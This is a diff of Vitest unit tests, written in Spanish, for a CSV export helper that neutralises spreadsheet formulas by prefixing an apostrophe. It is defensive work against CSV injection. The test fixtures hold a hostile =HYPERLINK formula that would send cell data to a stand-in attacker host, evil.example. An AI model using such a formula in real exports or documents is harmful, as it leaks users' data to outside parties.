@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { leerCsv, leerSiNo, normalizarColumna } from "@/lib/csv";
+import { escribirCsv, leerCsv, leerSiNo, neutralizarFormula, normalizarColumna } from "@/lib/csv";
 
 describe("leer un CSV importado", () => {
   it("acepta el CSV de Excel en es-CO: BOM, punto y coma, encabezados con tildes y mayúsculas", () => {
@@ -51,5 +51,40 @@ describe("leer un CSV importado", () => {
       false,
       null,
     ]);
+  });
+});
+
+describe("escribir un CSV (exportaciones y plantillas)", () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"ver")', `'=HYPERLINK("http://evil.example/?"&A1,"ver")`],
+    ["+57 300 1234567", "'+57 300 1234567"],
+    ["-2+3", "'-2+3"],
+    ["@SUMA(A1:A9)", "'@SUMA(A1:A9)"],
+    ["\t=1+1", "'\t=1+1"],
+    ["\r=1+1", "'\r=1+1"],
+  ])("una celda que empieza como fórmula (%j) se escribe con apóstrofo: %j", (valor, esperado) => {
+    expect(neutralizarFormula(valor)).toBe(esperado);
+  });
+
+  it.each(["-5", "-12,5", "3.5", "ACTA-2026-01", "Centro = Norte", "correo@sena.edu.co"])(
+    "un número o un texto que no empieza como fórmula queda igual: %j",
+    (valor) => {
+      expect(neutralizarFormula(valor)).toBe(valor);
+    },
+  );
+
+  it("escribe BOM, punto y coma y CRLF, comillas donde hace falta y ninguna fórmula viva", () => {
+    const texto = escribirCsv([
+      ["numero", "nombre", "monto"],
+      ['=HYPERLINK("http://evil.example")', 'Dice "hola"; adiós', 1500000n],
+      [null, "Línea\nnueva", -3],
+    ]);
+    expect(texto).toBe(
+      "\uFEFFnumero;nombre;monto\r\n" +
+        `"'=HYPERLINK(""http://evil.example"")";"Dice ""hola""; adiós";1500000\r\n` +
+        ';"Línea\nnueva";-3\r\n',
+    );
+    const lectura = leerCsv(texto, ["numero"]);
+    expect(lectura.ok && lectura.filas[0]?.valores.numero).toBe(`'=HYPERLINK("http://evil.example")`);
   });
 });
